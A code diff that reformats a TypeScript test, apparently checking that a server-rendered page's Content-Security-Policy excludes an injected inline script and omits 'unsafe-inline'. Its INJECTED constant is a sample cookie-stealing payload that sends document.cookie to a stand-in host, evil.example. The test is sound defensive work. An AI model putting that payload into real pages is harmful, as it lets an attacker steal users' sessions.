@@ -20,12 +20,15 @@ import { builtServerAvailable, builtServerDir } from "../support/spawn-server";
 const INJECTED = `fetch("https://evil.example/?c="+document.cookie)`;
 const hashOf = (script: string) => `'sha256-${createHash("sha256").update(script, "utf8").digest("base64")}'`;
 const inlineScripts = (html: string) =>
-  [...html.matchAll(/<script(?![^>]*\bsrc=)([^>]*)>([\s\S]*?)<\/script>/g)].filter((m) => !/application\/(ld\+)?json/.test(m[1]!)).map((m) => m[2]!);
+  [...html.matchAll(/<script(?![^>]*\bsrc=)([^>]*)>([\s\S]*?)<\/script>/g)]
+    .filter((m) => !/application\/(ld\+)?json/.test(m[1]!))
+    .map((m) => m[2]!);
 const allowed = (res: Response) => new Set(res.headers.get("content-security-policy")!.match(/'sha256-[^']+'/g));
 
 let build: ServerBuild;
 beforeAll(async () => {
-  if (builtServerAvailable) build = (await import(pathToFileURL(join(builtServerDir, "server/index.js")).href)) as ServerBuild;
+  if (builtServerAvailable)
+    build = (await import(pathToFileURL(join(builtServerDir, "server/index.js")).href)) as ServerBuild;
 });
 afterEach(() => {
   vi.restoreAllMocks();
@@ -68,7 +71,8 @@ describe.skipIf(!builtServerAvailable)("the CSP of a page rendered on request", 
       const csp = allowed(res);
       expect(csp.has(hashOf(INJECTED)), path).toBe(false);
       // The app's own inline script still runs.
-      for (const script of inlineScripts(html).filter((s) => s !== INJECTED)) expect(csp.has(hashOf(script)), path).toBe(true);
+      for (const script of inlineScripts(html).filter((s) => s !== INJECTED))
+        expect(csp.has(hashOf(script)), path).toBe(true);
       expect(res.headers.get("content-security-policy")).not.toContain("unsafe-inline");
     }
     expect(warn).toHaveBeenCalledWith("inline_script_not_allowed", { path: "/no-such-page", scripts: 1 });
